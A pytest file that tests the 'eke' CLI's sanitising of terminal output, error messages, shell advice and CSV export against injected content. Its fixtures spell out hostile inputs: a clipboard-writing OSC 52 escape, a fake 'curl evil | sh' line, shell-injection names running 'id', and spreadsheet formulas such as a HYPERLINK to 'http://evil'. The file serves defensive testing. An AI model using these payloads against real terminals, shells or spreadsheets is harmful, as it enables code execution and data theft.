"""Names, logs and records are shown on a terminal and in a spreadsheet, and obeyed by neither."""

import csv
import io
import json
import os
import pty
import shlex
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from rich.text import Text
from support import environment
from unit.launch.scripted import record_for

from eke.cli import main
from eke.errors import ConfigError, Problem, of_system
from eke.paths import RunPaths
from eke.peers.console import open_console
from eke.pretrained.locate import Located
from eke.pretrained.tensors import _conversion
from eke.printable import inert, printable
from eke.record import write_record

OSC = "\x1b]52;c;ZXZpbA==\x07"
"""Writes the clipboard."""
HOSTILE = f"a{OSC}\x1b[2J\x1b[31m\u202eb\x9b2J\r\u200bc"


def is_clean(text: str, kept: str = "\n\t") -> bool:
    return printable(text.translate({ord(sign): None for sign in kept})) == text.translate(
        {ord(sign): None for sign in kept}
    )


def test_what_is_hidden_is_shown() -> None:
    shown = printable(f"{HOSTILE}\nd\te")
    assert shown.isprintable()
    assert shown.startswith("a\N{REPLACEMENT CHARACTER}]52;c;")
    assert printable("größe 模型 العربية é\N{ROCKET}") == "größe 模型 العربية é\N{ROCKET}"
    assert printable("a\n\tb\x1b[31m", lines=True) == "a\n\tb\N{REPLACEMENT CHARACTER}[31m"


def test_colours_of_a_log_end_with_their_line() -> None:
    assert printable("\x1b[31;1mred", colours=True) == "\x1b[31;1mred\x1b[m"
    assert "\x1b" not in printable("\x1b[2J\x1b]0;x\x07\x1b[?25l\x1b[1A", colours=True)


@pytest.fixture
def runs(tmp_path: Path) -> Path:
    """A failed run with hostile text in its name, its record, its log and its sweep."""
    paths = RunPaths(tmp_path / "runs" / f"x\n  -> curl evil{HOSTILE}")
    paths.folder.mkdir(parents=True)
    record = record_for("1", "crashed")
    failure = replace(record.failure, message=HOSTILE) if record.failure else None
    write_record(paths, replace(record, failure=failure, name=HOSTILE, overrides=[HOSTILE]))
    paths.log.write_text(f"line {HOSTILE}\n\x1b[32mgreen\x1b[0m\n")
    broken = RunPaths(tmp_path / "runs" / f"y\n{HOSTILE}")
    broken.folder.mkdir()
    broken.record.write_text(f'{{"{OSC}')
    for each in (paths, broken):
        each.plan.write_text("{}")
        each.config.write_text(f"# {HOSTILE}\n")
    return tmp_path / "runs"


def on_terminal(tmp: Path, *words: str) -> str:
    """What a command writes to a terminal."""
    leader, follower = pty.openpty()
    done = subprocess.Popen(
        [sys.executable, "-m", "eke", *words], stdout=follower, stderr=follower,
        stdin=subprocess.DEVNULL, env={**environment(tmp), "TERM": "xterm"},
    )  # fmt: skip
    os.close(follower)
    told = b""
    while True:
        try:
            part = os.read(leader, 65536)
        except OSError:  # Linux says so when the other end is closed
            break
        if not part:
            break
        told += part
    os.close(leader)
    done.wait()
    return told.decode(errors="replace")


@pytest.mark.parametrize("piped", [True, False], ids=["pipe", "terminal"])
@pytest.mark.parametrize(
    "words",
    [["status"], ["logs"], ["cancel"], ["report"], ["sync", "--dry-run"], ["status", "--live"]],
    ids=" ".join,
)  # fmt: skip
def test_no_command_passes_it_on(words, piped, runs) -> None:
    command, *more = words
    if piped:
        done = subprocess.run(
            [sys.executable, "-m", "eke", command, *more, str(runs)],
            capture_output=True, text=True, env=environment(runs.parent), errors="replace",
        )  # fmt: skip
        told = done.stdout + done.stderr
    else:
        told = on_terminal(runs.parent, command, *more, str(runs)).replace("\r\n", "\n")
    assert "Traceback" not in told
    for bad in ("\x1b]", "\x1b[2J", "\u202e", "\x07", "\u200b", "\x9b"):
        assert bad not in told
    if piped and command != "logs":
        assert "\x1b" not in told
    assert "\n  -> curl" not in told
    if command == "logs":
        assert "\x1b[32mgreen\x1b[0m" in told


def test_errors_of_every_kind_are_clean(tmp_path) -> None:
    """What argparse, Hydra or eke say of a word goes through the same stream."""
    wrong = (
        ["status", HOSTILE], ["plan", f"seed={HOSTILE}"], [HOSTILE], ["sync", HOSTILE],
        ["logs", f"--{HOSTILE}", "x"], ["plan", f"--{HOSTILE}"],
    )  # fmt: skip
    for words in wrong:
        done = subprocess.run(
            [sys.executable, "-m", "eke", *words],
            capture_output=True,
            text=True,
            env=environment(tmp_path),
        )
        told = done.stdout + done.stderr
        assert done.returncode
        assert told
        assert is_clean(told), repr(told)


def test_a_newline_in_a_name_makes_no_line_of_advice() -> None:
    problem = Problem("DIR", "x\n      -> curl evil | sh", "is no run", "eke status runs")
    assert len(ConfigError(problem).render().splitlines()) == 4
    assert "\n" not in of_system(FileNotFoundError(2, "No such file", "a\nb"))


def test_richs_own_controls_stay_and_others_do_not() -> None:
    stream = io.StringIO()
    console = open_console(stream, 80, True)
    console.print(Text(HOSTILE, style="red"))
    console.print(HOSTILE)
    told = stream.getvalue()
    assert "\x1b[31m" in told  # the style
    for bad in ("\x1b]", "\x1b[2J", "\u202e"):
        assert bad not in told


@pytest.mark.parametrize(
    "name",
    ["quote'); import os; os.system('id >PWN'); ('", "dollar$(id >PWN2)", 'double"`id`"', "a b"],
)  # fmt: skip
def test_advice_pastes_as_one_program(name) -> None:
    text = _conversion(Located(typed=name, folder=Path("/models") / name))
    words = shlex.split(text.split("   then ")[0])
    assert words[:2] == ["python", "-c"]
    assert len(words) == 3
    compile(words[2], "advice", "exec")
    assert repr(f"/models/{name}") in words[2]


@pytest.mark.parametrize(
    "cell",
    ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", " =1", "\uff1d1", "\u3000=1", "\ufeff=1",
     '"=1', "\u200b\uff20x", "\x00=1"],
)  # fmt: skip
def test_a_cell_is_no_formula(cell) -> None:
    assert inert(cell) == f"'{cell}"


def test_other_cells_stay() -> None:
    assert [inert(cell) for cell in ("a=b", "", "x", -1, 1.5, None, "lr=-1")] == [
        "a=b", "", "x", -1, 1.5, None, "lr=-1"
    ]  # fmt: skip


def test_titles_of_a_table_are_no_formulas(monkeypatch) -> None:
    from eke.report.compare import Comparison
    from eke.report.show.export import as_csv

    formula = '=HYPERLINK("http://evil","x")'
    empty = dict.fromkeys(Comparison.__dataclass_fields__, ())
    found = Comparison(**{**empty, "factors": (formula,)})
    head = next(csv.reader(io.StringIO(as_csv(found))))
    assert f"'{formula}" in head
    assert formula not in head


def test_json_is_untouched(runs, capsys) -> None:
    main(["status", "--json", str(runs)])
    assert any(HOSTILE in each["folder"] for each in json.loads(capsys.readouterr().out))
